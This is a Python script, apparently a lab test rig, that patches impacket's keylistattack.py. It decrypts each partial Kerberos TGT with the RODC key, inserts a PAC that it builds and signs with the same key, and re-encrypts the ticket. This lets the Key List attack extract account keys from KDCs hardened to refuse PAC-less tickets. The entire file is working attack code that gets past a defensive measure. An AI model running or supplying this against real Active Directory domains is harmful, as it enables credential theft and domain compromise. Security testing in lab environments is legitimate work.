"""Run impacket's keylistattack.py with a PAC in the partial TGTs that it makes.

    python -m tests.rig.key_list DOMAIN_SID USERS_JSON ARGUMENTS-OF-KEYLISTATTACK...

The tool itself sends them without, which hardened KDCs refuse. Everything here is impacket's own
code; none of ours makes or signs the PAC. USERS_JSON: {name: RID}.
"""

import json
import runpy
import struct
import sys
from binascii import unhexlify
from pathlib import Path
from typing import Any

from impacket.dcerpc.v5.dtypes import NULL, SID  # type: ignore[import-untyped]  # no types
from impacket.dcerpc.v5.samr import GROUP_MEMBERSHIP, USER_NORMAL_ACCOUNT  # type: ignore[import-untyped]  # no types
from impacket.examples import secretsdump  # type: ignore[import-untyped]  # no types
from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart  # type: ignore[import-untyped]  # no types
from impacket.krb5.crypto import Key, _checksum_table, _enctype_table  # type: ignore[import-untyped]  # no types
from impacket.krb5.pac import (  # type: ignore[import-untyped]  # no types
    KERB_VALIDATION_INFO,
    PAC_ATTRIBUTE_INFO,
    PAC_CLIENT_INFO,
    PAC_REQUESTOR,
    VALIDATION_INFO,
)
from pyasn1.codec.der import decoder, encoder  # type: ignore[import-untyped]  # no types
from pyasn1.type.univ import noValue  # type: ignore[import-untyped]  # no types

_USAGE_TICKET = 2
_USAGE_PAC = 17
_HMAC_SHA1_AES256 = 16
_NEVER = (0xFFFFFFFF, 0x7FFFFFFF)


def _validation_info(user: str, rid: int, domain_sid: str) -> bytes:
    info = KERB_VALIDATION_INFO()
    for name, (low, high) in {
        "LogonTime": (0, 0),
        "LogoffTime": _NEVER,
        "KickOffTime": _NEVER,
        "PasswordLastSet": (0, 0),
        "PasswordCanChange": (0, 0),
        "PasswordMustChange": _NEVER,
        "LastSuccessfulILogon": (0, 0),
        "LastFailedILogon": (0, 0),
    }.items():
        info[name]["dwLowDateTime"], info[name]["dwHighDateTime"] = low, high
    info["EffectiveName"] = user
    for name in ("FullName", "LogonScript", "ProfilePath", "HomeDirectory", "HomeDirectoryDrive"):
        info[name] = ""
    for name in ("LogonCount", "BadPasswordCount", "UserFlags", "SubAuthStatus"):
        info[name] = 0
    for name in ("FailedILogonCount", "Reserved3", "SidCount", "ResourceGroupCount"):
        info[name] = 0
    info["UserId"], info["PrimaryGroupId"], info["GroupCount"] = rid, 513, 1
    member = GROUP_MEMBERSHIP()
    member["RelativeId"], member["Attributes"] = 513, 7
    info["GroupIds"].append(member)
    info["UserSessionKey"], info["LMKey"] = bytes(16), bytes(8)
    info["LogonServer"], info["LogonDomainName"] = "", "LAB"
    info["LogonDomainId"].fromCanonical(domain_sid)
    info["UserAccountControl"] = USER_NORMAL_ACCOUNT
    for name in ("ExtraSids", "ResourceGroupDomainSid", "ResourceGroupIds"):
        info[name] = NULL
    wrapped = VALIDATION_INFO()
    wrapped["Data"] = info
    return bytes(wrapped.getData() + wrapped.getDataReferents())


def _pac(user: str, rid: int, domain_sid: str, key: Any) -> bytes:
    client = PAC_CLIENT_INFO()
    client["ClientId"] = 0
    client["Name"] = user.encode("utf-16-le")
    client["NameLength"] = len(client["Name"])
    attributes = PAC_ATTRIBUTE_INFO()
    attributes["FlagsLength"], attributes["Flags"] = 2, 1
    requestor = PAC_REQUESTOR()
    requestor["UserSid"] = SID()
    requestor["UserSid"].fromCanonical(f"{domain_sid}-{rid}")
    empty = struct.pack("<I", _HMAC_SHA1_AES256) + bytes(12)
    buffers = {
        1: _validation_info(user, rid, domain_sid),
        10: client.getData(),
        17: attributes.getData(),
        18: requestor.getData(),
        6: empty,
        7: empty,
    }
    head, body, places = struct.pack("<II", len(buffers), 0), b"", {}
    offset = 8 + 16 * len(buffers)
    for kind, data in buffers.items():
        head += struct.pack("<IIQ", kind, len(data), offset)
        places[kind] = offset + 4
        body += data + bytes(-len(data) % 8)
        offset += len(data) + -len(data) % 8
    pac = bytearray(head + body)
    sign = _checksum_table[_HMAC_SHA1_AES256]
    server = sign.checksum(key, _USAGE_PAC, bytes(pac))
    pac[places[6] : places[6] + 12] = server
    pac[places[7] : places[7] + 12] = sign.checksum(key, _USAGE_PAC, server)
    return bytes(pac)


class WithPac(secretsdump.KeyListSecrets):  # type: ignore[misc]  # no types
    """impacket's class; the ticket is opened again with its own key to put the PAC in."""

    domain_sid = ""
    rids: dict[str, int] = {}  # noqa: RUF012  set once, below

    def createPartialTGT(self, userName: Any) -> Any:  # noqa: N802, N803  impacket's names
        """Make the ticket as impacket does, then add the PAC."""
        ticket, session_key = super().createPartialTGT(userName)
        cipher = _enctype_table[int(ticket["enc-part"]["etype"])]
        key = Key(cipher.enctype, unhexlify(self._KeyListSecrets__rodcKey))
        plain = cipher.decrypt(key, _USAGE_TICKET, bytes(ticket["enc-part"]["cipher"]))
        part = decoder.decode(plain, asn1Spec=EncTicketPart())[0]
        user = str(userName)
        relevant = AD_IF_RELEVANT()
        relevant[0] = noValue
        relevant[0]["ad-type"] = 128
        relevant[0]["ad-data"] = _pac(user, self.rids[user], self.domain_sid, key)
        part["authorization-data"] = noValue
        part["authorization-data"][0] = noValue
        part["authorization-data"][0]["ad-type"] = 1
        part["authorization-data"][0]["ad-data"] = encoder.encode(relevant)
        sealed = cipher.encrypt(key, _USAGE_TICKET, encoder.encode(part), None)
        ticket["enc-part"]["cipher"] = sealed
        return ticket, session_key


def main() -> None:
    """Patch impacket's class and run the tool."""
    WithPac.domain_sid, users, *arguments = sys.argv[1:]
    WithPac.rids = json.loads(Path(users).read_text())
    secretsdump.KeyListSecrets = WithPac
    tool = Path(sys.executable).with_name("keylistattack.py")
    sys.argv = [str(tool), *arguments]
    runpy.run_path(str(tool), run_name="__main__")


if __name__ == "__main__":
    main()
